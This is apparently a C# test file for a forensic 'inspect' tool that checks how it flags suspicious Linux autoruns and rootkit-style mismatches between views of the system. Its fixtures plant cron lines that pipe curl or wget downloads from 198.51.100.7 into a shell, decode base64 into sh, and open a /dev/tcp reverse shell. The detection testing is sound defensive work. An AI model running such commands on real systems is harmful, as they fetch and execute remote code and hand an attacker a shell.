using System.Text.Json.Nodes;
using EndToEnd.Tests.Reports;

namespace EndToEnd.Tests;

/// <summary>What <c>inspect</c> names in records of autoruns and of views that do not agree. Collectors plant the things themselves; here their records are planted.</summary>
public sealed class InspectAutorunTests
{
    private readonly Workplace place = new();

    [OneTimeTearDown]
    public void CleanUp() => place.Dispose();

    [Test]
    public void EachUnusualAutorunIsNamed()
    {
        var output = Inspect("records/a/autorun",
            Made("/etc/ld.so.preload", null, "/lib/x.so", ("package_state", "unpackaged")),
            Made("/etc/cron.d/a", "curl -s http://198.51.100.7/a | bash", "/usr/bin/curl", ("package_state", "unpackaged")),
            Made("/etc/cron.d/b", "sh -c \"$(wget -qO- http://198.51.100.7/b)\"", "/bin/sh", ("package_state", "unpackaged")),
            Made("/etc/cron.d/c", "echo aWQK | base64 -d | sh", "/bin/echo", ("package_state", "unpackaged")),
            Made("/etc/cron.d/d", "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", "/bin/bash", ("package_state", "unpackaged")),
            Made("/etc/cron.d/e", "cd / && /var/tmp/e", "/var/tmp/e", ("package_state", "unpackaged")),
            Made("/etc/systemd/system/f.service", "/opt/f", "/opt/f", ("package_state", "unpackaged"), ("target_package_state", "unpackaged"), ("target_writable_by_others", true)),
            Made("/usr/lib/systemd/system/ssh.service", "/usr/sbin/sshd -D", "/usr/sbin/sshd", ("target_package_state", "changed")),
            Made("/usr/lib/systemd/system/g.service", "/usr/sbin/g", "/usr/sbin/g", ("package_state", "changed")),
            Made("/etc/rc.local", "/usr/sbin/h", "/usr/sbin/h", ("writable_by_others", true)),
            Made("/etc/cron.d/i", "/opt/.i/run", "/opt/.i/run"));
        foreach (var finding in new[]
        {
            "library preloaded by /etc/ld.so.preload\n", "autorun that decodes or downloads what it starts, 4 times\n", "autorun in a folder for temporary files\n", "autorun of no package whose program others can write\n",
            "packaged program that starts by itself and was changed\n", "packaged autorun that was changed\n", "autorun that others than its user can write\n", "autorun whose program lies in a hidden folder\n",
            "autorun of no package whose program is of no package\n",
        })
        {
            Assert.That(output, Does.Contain($". {finding}"));
        }

        Assert.That(output, Does.Contain("- /etc/cron.d/e line 3, cron, boot, as root: cd / && /var/tmp/e [a]").And.Contain("looked at: 11 autorun"));
    }

    [Test]
    public void WhatAPackageBroughtAndAUsersOwnFilesAreNotUnusual()
        => Assert.That(Inspect("records/a/autorun",
            Made("/usr/lib/systemd/system/x.service", "/bin/sh -c 'curl http://localhost | sh; rm /tmp/x'", "/bin/sh"),
            Made("/home/anna/.profile", "/home/anna/bin/x", "/home/anna/bin/x", ("run_as", "anna"), ("writable_by_others", false), ("target_writable_by_others", false), ("package_state", "no-database")),
            Made("/etc/cron.d/off", "/var/tmp/x", "/var/tmp/x", ("enabled", false)),
            Made("/etc/default/x", null, null, ("package_state", "configuration-changed")),
            Made("/usr/lib/tmpfiles.d/x.conf", "D /tmp 1777 root root -", null)), Does.Contain("nothing unusual was found"));

    [Test]
    public void AUsersFileThatAnotherUserCanWriteIsUnusual()
        => Assert.That(Inspect("records/a/autorun",
            Made("/home/anna/.profile", "/home/anna/bin/x", "/home/anna/bin/x", ("run_as", "anna"), ("writable_by_others", true), ("package_state", "no-database"))), Does.Contain("1. autorun that others than its user can write\n"));

    [TestCase("hidden-process", "process that answers and is not listed")]
    [TestCase("covered-process", "process whose folder in /proc is covered by a mount")]
    [TestCase("hidden-thread", "thread that answers and is not listed")]
    [TestCase("module-in-one-view", "kernel module that only one view shows")]
    [TestCase("socket-in-one-view", "socket that only one view of the kernel shows")]
    [TestCase("map-differs-from-file", "mapped code that differs from its file")]
    [TestCase("socket-without-owner", "socket that no process holds")]
    [TestCase("files-under-mount", "files below a mount")]
    [TestCase("something-new", "other views that do not agree")]
    public void EachDisagreementIsNamed(string disagreement, string finding)
        => Assert.That(Inspect("records/a/cross.view", PlantedBundle.CrossView(disagreement, "pid 4711")), Does.Contain($"1. {finding}\n").And.Contain("- pid 4711: both, three times [a]"));

    private string Inspect(string stream, params JsonObject[] lines)
    {
        using var bundle = new PlantedBundle(place.Path($"{Guid.NewGuid():N}.tar.zst")).Add(stream, lines).Close();
        return place.Run("inspect", bundle.Path).MustEndWith(8).Output.Replace("less unusual: ", "less unusual: . ", StringComparison.Ordinal).Replace("; ", "\n. ", StringComparison.Ordinal).Replace(" (1)", "\n", StringComparison.Ordinal);
    }

    private static JsonObject Made(string path, string? command, string? target, params (string Field, JsonNode Value)[] fields)
    {
        var autorun = PlantedBundle.Autorun(path, command, target);
        foreach (var (field, value) in fields)
        {
            autorun[field] = value;
        }

        return autorun;
    }
}
